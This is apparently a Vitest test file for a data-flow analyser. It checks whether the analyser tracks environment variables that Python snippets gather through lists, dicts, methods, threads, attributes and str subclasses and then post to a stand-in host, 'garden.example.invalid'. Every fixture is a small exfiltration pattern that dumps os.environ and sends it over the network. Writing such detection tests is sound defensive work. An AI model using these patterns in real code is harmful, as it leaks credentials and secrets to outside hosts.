import { expect, test } from 'vitest';
import { read } from './reading.js';

const HEAD = 'import asyncio, os, requests\ndef send(found): requests.post("https://garden.example.invalid/", json=found)\n';
const sentBy = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.flows({ from: 'environment', to: 'network' }).map(({ when }) => when) ?? [];

test.each([
  ['a list', 'def collect(found): found.append(dict(os.environ))\nfound = []\ncollect(found)\nsend(found)'],
  ['a dict', 'def collect(found): found.update(os.environ)\nfound = {}\ncollect(found)\nsend(found)'],
  ['a dict of a function', 'def collect(found): found["all"] = dict(os.environ)\ndef go():\n    found = {}\n    collect(found)\n    send(found)\ngo()'],
  ['a dict that one function after the other is given', 'def collect(found): found.update(os.environ)\nfound = {}\nfor step in (collect, send):\n    step(found)'],
  ['a list that a method is given', 'class Bed:\n    def dig(self, found): found.extend(os.environ.items())\nfound = []\nBed().dig(found)\nsend(found)'],
])('what a function puts into %s is there for who called it', async (_, text) => {
  expect(await sentBy(text)).toContain('import');
});

test.each([
  ['another list', 'def collect(found, other): found.append(dict(os.environ))\nfound = []\nother = []\ncollect(found, other)\nsend(other)'],
  ['a list of its own', 'def collect(found):\n    own = []\n    own.append(dict(os.environ))\nfound = []\ncollect(found)\nsend(found)'],
])('what a function puts into %s is not in the one that it was given', async (_, text) => {
  expect(await sentBy(text)).toEqual([]);
});

test.each([
  ['a function that a loop runs in a thread', 'def collect(place): return dict(os.environ)\nasync def main():\n    loop = asyncio.get_running_loop()\n    send(await loop.run_in_executor(None, collect, "all"))\nasyncio.run(main())'],
  ['an attribute that is kept past the class and asked for past it', 'class Bed:\n    def __init__(self): object.__setattr__(self, "leaf", dict(os.environ))\n    def dig(self): send(object.__getattribute__(self, "leaf"))\nBed().dig()'],
  ['a text of a kind of its own', 'class Leaf(str):\n    def __new__(cls): return super().__new__(cls, str(dict(os.environ)))\nsend(Leaf())'],
])('what %s gives is followed', async (_, text) => {
  expect(await sentBy(text)).toContain('import');
});
